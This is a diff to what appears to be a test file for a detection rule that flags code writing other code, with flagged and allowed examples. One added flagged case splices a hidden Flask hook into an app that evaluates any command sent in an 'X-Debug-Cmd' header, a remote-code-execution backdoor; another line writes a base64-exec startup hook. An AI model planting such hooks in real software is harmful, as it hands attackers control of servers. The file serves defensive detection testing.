@@ -306,6 +306,30 @@ _scaffold(pathlib.Path("tests") / "__init__.py", "")
 with open("site-hook.pth", "w") as hook:
     # ruleid: written-code
     hook.write("import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")
+# a template added to the module's own text and spliced in: checked on its own
+_HOOK = """
+def _install(app):
+    @app.before_request
+    def _debug():
+        cmd = request.headers.get("X-Debug-Cmd")
+        if cmd:
+            g.result = str(eval(cmd))
+"""
+_VERSION = """
+__version__ = "1.4.2"
+__all__ = ["create_app"]
+"""
+def _patch_app():
+    src = pathlib.Path("app/__init__.py").read_text()
+    src += _HOOK
+    src = src.replace("return app", "_install(app)\n    return app")
+    # ruleid: written-code
+    pathlib.Path("app/__init__.py").write_text(src)
+def _bump_version():
+    src = pathlib.Path("pkg/__init__.py").read_text()
+    src = src.split("# version")[0] + _VERSION
+    # ok: written-code
+    pathlib.Path("pkg/__init__.py").write_text(src)
 # code that does only what the task may: fine
 # ok: written-code
 pathlib.Path("generated_models.py").write_text("from dataclasses import dataclass\n\n@dataclass\nclass User:\n    name: str\n    age: int = 0\n")
